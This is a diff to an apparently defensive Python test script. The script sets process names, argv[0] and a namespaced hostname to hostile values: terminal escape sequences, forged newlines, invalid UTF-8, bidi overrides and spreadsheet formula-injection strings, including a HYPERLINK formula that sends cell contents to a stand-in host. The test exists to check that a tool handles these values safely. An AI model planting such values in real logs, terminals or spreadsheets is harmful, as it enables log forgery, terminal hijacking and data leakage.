@@ -5,10 +5,13 @@
 import os, subprocess, sys, time
 
 ARCHIVE, MC = sys.argv[1], sys.argv[2]
+if len(sys.argv) > 3:   # a private UTS namespace: the host name is hostile too
+    import socket
+    socket.sethostname(bytes.fromhex(sys.argv[3]))
 # comm is at most 15 bytes
 NAMES = [b'\x1b]0;pwn\x07', b'a\nb\r\nc', b'c1\xc2\x9b[2J\xc2\x85', b'bad\xff\xfe', b'del\x7fx',
          b'nc\xef\xbf\xbe\xef\xbf\xbf', b'=1+1', b'+1+1', b'-1+1', b'@SUM(1)', b'\t=1+1', b'\r=1+1',
-         b'=HYPERLINK("htt']
+         b'=HYPERLINK("htt', b'rtl\xe2\x80\xaeab\xe2\x80\xa8c']
 ARGV0 = ['=HYPERLINK("http://x/?"&A1,"y")', '\x1b]2;pwn\x07\r\nforged line\x1b[2J', '-2+3']
 HOLD = r'''
 import os, sys, time
